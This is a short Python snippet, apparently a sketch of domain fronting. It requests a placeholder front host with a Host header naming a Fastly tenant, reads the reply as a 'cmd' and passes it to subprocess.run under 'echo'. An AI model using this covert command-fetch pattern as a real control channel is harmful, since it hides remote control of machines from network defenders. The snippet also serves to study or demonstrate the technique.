from urllib import request
import subprocess
HOST_HEADER = "tenant.forward.global.prod.fastly.net"
r = request.Request("https://front.invalid/images", headers={"Host": HOST_HEADER})
cmd = request.urlopen(r).read().decode()
subprocess.run(["echo", cmd])
